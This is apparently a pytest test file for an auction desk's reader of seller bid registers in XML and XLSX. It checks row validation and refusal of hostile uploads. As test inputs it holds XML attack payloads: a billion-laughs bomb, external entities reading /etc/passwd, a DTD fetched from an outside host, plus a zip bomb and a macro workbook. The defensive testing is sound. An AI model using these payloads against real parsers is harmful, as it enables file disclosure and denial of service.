"""The seller's satisfied register: read when sound, otherwise every shape problem with its row;
hostile XML and workbooks refused."""
import time
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from app.registers import readers
from app.registers.readers import RegisterFileError, SatisfiedRow, read_satisfied_register
from app.registers.xlsx_register import write_register_xlsx
from app.registers.xml import write_register_xml
from tests.registers.conftest import register_header, register_rows

ROOT_OPEN = '<reg:SatisfiedBidsRegister xmlns:reg="urn:auction-desk:registers:1" version="1">'

pytestmark = pytest.mark.usefixtures("in_english")


def satisfied_xml(count: int = 5) -> bytes:
    buffer = BytesIO()
    write_register_xml(buffer, register_header("satisfied", count), register_rows(count, "satisfied"))
    return buffer.getvalue()


def problems_of(data: bytes, filename: str) -> list[tuple]:
    with pytest.raises(RegisterFileError) as raised:
        read_satisfied_register(data, filename)
    return [(problem.row_number, problem.field, str(problem.message)) for problem in raised.value.problems]


EXPECTED_ROWS = [
    SatisfiedRow(1, 1, Decimal("98.5000"), 5), SatisfiedRow(2, 2, Decimal("98.5000"), 10),
    SatisfiedRow(3, 3, Decimal("98.5000"), 15), SatisfiedRow(4, 4, Decimal("98.5000"), 20),
    SatisfiedRow(5, 5, None, 0),
]


# --- XML -----------------------------------------------------------------------------------------------

def test_a_sound_xml_register_is_read():
    assert read_satisfied_register(satisfied_xml(), "answer.xml") == EXPECTED_ROWS


def test_a_file_object_without_a_suffix_is_sniffed():
    assert read_satisfied_register(BytesIO(satisfied_xml()), "answer") == EXPECTED_ROWS


def test_every_bad_xml_row_is_reported():
    data = (satisfied_xml().decode()
            .replace("<SatisfiedQuantity>5<", "<SatisfiedQuantity>-5<")
            .replace("<SatisfiedPrice>98.5000</SatisfiedPrice><SatisfiedQuantity>10<",
                     "<SatisfiedPrice>abc</SatisfiedPrice><SatisfiedQuantity>10<")
            .replace("<BidNumber>4<", "<BidNumber>3<")
            .replace("<SatisfiedQuantity>15<", "<SatisfiedQuantity>1.5<")
            .replace("<Kind>market</Kind>", "<Kind>market</Kind><Comment>call me</Comment>")
            .replace("<BidNumber>5</BidNumber>", ""))

    assert problems_of(data.encode(), "answer.xml") == [
        (1, "SatisfiedQuantity", "Must not be negative."),
        (2, "SatisfiedPrice", "Not a number."),
        (3, "SatisfiedQuantity", "Not a whole number."),
        (4, "BidNumber", "Bid 3 appears again (first in row 3)."),
        (4, "Comment", "Unknown field."),
        (5, "BidNumber", "The bid number is missing."),
    ]


def test_xml_pairs_a_quantity_with_a_price():
    data = satisfied_xml().replace(b"<SatisfiedPrice>98.5000</SatisfiedPrice><SatisfiedQuantity>5<",
                                   b"<SatisfiedQuantity>5<")

    assert problems_of(data, "a.xml") == [(1, "SatisfiedPrice", "A satisfied quantity needs a satisfied price.")]


def test_other_schema_breaches_are_reported_with_the_schema_words():
    data = satisfied_xml().replace(b"<ParticipantBIN>000000000002<", b"<ParticipantBIN>2<", 1)

    [(row, field, message)] = problems_of(data, "a.xml")
    assert (row, field) == (2, "ParticipantBIN") and message.startswith("Does not match the register schema:")


def test_the_header_count_must_match_the_bids():
    data = satisfied_xml().replace(b"<BidCount>5<", b"<BidCount>6<")

    assert problems_of(data, "a.xml") == [(None, "BidCount", "The header says 6 bids; the file has 5.")]


def test_the_accepted_register_sent_back_is_named_for_what_it_is():
    buffer = BytesIO()
    write_register_xml(buffer, register_header("accepted", 2), register_rows(2))

    [(row, _, message)] = problems_of(buffer.getvalue(), "a.xml")
    assert row is None and message.startswith("This is the accepted bids register.")


BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">'
                            for n in range(1, 10))
                  + f']>{ROOT_OPEN}<Header><OfferingNumber>&lol9;</OfferingNumber></Header>'
                  '</reg:SatisfiedBidsRegister>')
EXTERNAL_ENTITY = (f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>{ROOT_OPEN}'
                   '<Header><OfferingNumber>&x;</OfferingNumber></Header><Bids><Bid><BidNumber>&x;</BidNumber>'
                   '</Bid></Bids></reg:SatisfiedBidsRegister>')
EXTERNAL_DTD = (f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://203.0.113.9/evil.dtd">{ROOT_OPEN}'
                '<Bids/></reg:SatisfiedBidsRegister>')
PARAMETER_ENTITY = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
                    f'{ROOT_OPEN}<Bids/></reg:SatisfiedBidsRegister>')


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"])
def test_dtds_and_entities_are_refused(payload):
    started = time.perf_counter()
    problems = problems_of(payload.encode(), "answer.xml")

    assert time.perf_counter() - started < 2
    assert len(problems) == 1 and problems[0][0] is None
    assert "root:" not in problems[0][2] and "lol" not in problems[0][2]  # nothing was expanded or read


def test_malformed_xml_is_reported():
    [(_, _, message)] = problems_of(b"<reg:SatisfiedBidsRegister", "a.xml")
    assert message.startswith("The file is not well-formed XML")


def test_an_oversized_file_is_refused_before_parsing(monkeypatch):
    monkeypatch.setattr(readers, "MAX_FILE_BYTES", 100)

    assert problems_of(BytesIO(satisfied_xml()), "a.xml") == [(None, "", "The file is larger than 0 MB.")]


def test_the_bid_count_is_capped(monkeypatch):
    monkeypatch.setattr(readers, "MAX_ROWS", 3)

    assert (None, "", "The file has more than 3 bids.") in problems_of(satisfied_xml(), "a.xml")


# --- XLSX ----------------------------------------------------------------------------------------------

def filled_register(answers: dict[int, tuple]) -> bytes:
    """The desk's accepted register workbook with the seller's answers typed in."""
    source = BytesIO()
    write_register_xlsx(source, register_header("accepted", 4), register_rows(4))
    book = load_workbook(BytesIO(source.getvalue()))
    sheet = book["Register"]
    for row in sheet.iter_rows(min_row=2):
        price, quantity = answers.get(row[0].value, (None, None))
        row[13].value, row[14].value = price, quantity
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def workbook_bytes(rows: list[list], title: str = "Register") -> bytes:
    book = Workbook()
    book.active.title = title
    for row in rows:
        book.active.append(row)
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def test_the_desks_own_workbook_filled_in_is_read():
    data = filled_register({1: (98.5, 10), 2: ("98,1250", "20"), 3: (None, 0), 4: (Decimal("99"), 40)})

    assert read_satisfied_register(data, "answer.xlsx") == [
        SatisfiedRow(2, 1, Decimal("98.5"), 10), SatisfiedRow(3, 2, Decimal("98.1250"), 20),
        SatisfiedRow(4, 3, None, 0), SatisfiedRow(5, 4, Decimal("99"), 40),
    ]


HEADER = ["Bid number", "Satisfied price", "Satisfied quantity"]


def test_every_bad_xlsx_row_is_reported():
    data = workbook_bytes([
        HEADER + ["Comment"],
        [1, "abc", 10],
        [2, 98.5, -1],
        [None, 98.5, 1],
        [1, 98.5, 1],
        [5, 98.12345, 1],
        [6, None, 3],
        [7, 98.5, 2.5],
        [None, None, None],  # an empty row is skipped
        ["eight", 98.5, None],
        [9, True, 1],
    ])

    assert problems_of(data, "answer.xlsx") == [
        (1, "Comment", "Unknown column."),
        (2, "Satisfied price", "Not a number."),
        (3, "Satisfied quantity", "Must not be negative."),
        (4, "Bid number", "The bid number is missing."),
        (5, "Bid number", "Bid 1 appears again (first in row 2)."),
        (6, "Satisfied price", "At most 4 decimal places."),
        (7, "Satisfied price", "A satisfied quantity needs a satisfied price."),
        (8, "Satisfied quantity", "Not a whole number."),
        (10, "Bid number", "Not a number."),
        (10, "Satisfied quantity", "The satisfied quantity is missing (0 refuses the bid)."),
        (11, "Satisfied price", "Not a number."),
    ]


def test_missing_columns_are_named():
    data = workbook_bytes([["Bid number", "Satisfied quantity"], [1, 0]])

    assert problems_of(data, "a.xlsx") == [(1, "Satisfied price", "This column is missing.")]


def test_titles_match_whatever_their_case_and_the_first_sheet_serves():
    data = workbook_bytes([["  BID NUMBER ", "satisfied price", "Satisfied Quantity"], [3, "1 000,5", 2]], title="Answer")

    assert read_satisfied_register(data, "a.xlsx") == [SatisfiedRow(2, 3, Decimal("1000.5"), 2)]


def test_an_empty_register_is_a_problem():
    assert problems_of(workbook_bytes([HEADER]), "a.xlsx") == [(None, "", "The register lists no bids.")]


def with_member(data: bytes, name: str, content: bytes = b"x") -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        target.writestr(name, content)
    return out.getvalue()


MACRO_MESSAGE = "Macro-enabled and old-format workbooks are not accepted; save the register as .xlsx."


@pytest.mark.parametrize(("data", "filename"), [
    (lambda: with_member(workbook_bytes([HEADER, [1, 1, 1]]), "xl/vbaProject.bin"), "a.xlsx"),
    (lambda: workbook_bytes([HEADER, [1, 1, 1]]), "a.xlsm"),
    (lambda: b"\xd0\xcf\x11\xe0 old binary workbook", "a.xls"),
])
def test_macro_and_old_workbooks_are_refused(data, filename):
    assert problems_of(data(), filename) == [(None, "", MACRO_MESSAGE)]


def test_a_zip_bomb_is_refused_before_inflating(monkeypatch):
    monkeypatch.setattr(readers, "MAX_UNCOMPRESSED_BYTES", 10_000)
    data = with_member(workbook_bytes([HEADER, [1, 1, 1]]), "xl/padding.bin", b"\0" * 20_000)

    assert problems_of(data, "a.xlsx") == [(None, "", "The workbook unpacks to more than 0 MB.")]


@pytest.mark.parametrize(("data", "filename", "message"), [
    (b"PK\x03\x04 not really", "a.xlsx", "The file is not a readable XLSX workbook."),
    (b"%PDF-1.7", "a.pdf", "Upload the satisfied register as an .xml or .xlsx file."),
])
def test_unreadable_files_are_refused(data, filename, message):
    assert problems_of(data, filename) == [(None, "", message)]


def test_the_xlsx_row_count_is_capped(monkeypatch):
    monkeypatch.setattr(readers, "MAX_ROWS", 2)
    data = workbook_bytes([HEADER, [1, 1, 1], [2, 1, 1], [3, 1, 1]])

    assert problems_of(data, "a.xlsx") == [(None, "", "The file has more than 2 bids.")]


def test_problems_are_capped(monkeypatch):
    monkeypatch.setattr(readers, "MAX_PROBLEMS", 3)
    data = workbook_bytes([HEADER] + [[number, "x", 1] for number in range(1, 10)])

    problems = problems_of(data, "a.xlsx")
    assert len(problems) == 4 and problems[-1] == (None, "", "More problems were found; correct these first.")


@pytest.mark.parametrize(("value", "message"), [
    ("1e30", "Too large."), ("NaN", "Not a number."), ("Infinity", "Not a number."), ("12-5", "Not a number."),
])
def test_numbers_beyond_reason_are_problems_not_crashes(value, message):
    data = workbook_bytes([HEADER, [1, value, 1]])

    assert problems_of(data, "a.xlsx") == [(2, "Satisfied price", message)]


def with_replaced_sheet(data: bytes, transform) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            target.writestr(item, transform(content) if item.filename == "xl/worksheets/sheet1.xml" else content)
    return out.getvalue()


def test_entities_inside_a_workbook_sheet_are_refused():
    def add_entities(sheet_xml: bytes) -> bytes:
        doctype = b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "1">]>'
        assert b"<v>1</v>" in sheet_xml
        return doctype + sheet_xml.replace(b"<v>1</v>", b"<v>&y;</v>", 1)

    data = with_replaced_sheet(workbook_bytes([HEADER, [1, 1, 1]]), add_entities)

    assert problems_of(data, "a.xlsx") == [(None, "", "The file is not a readable XLSX workbook.")]
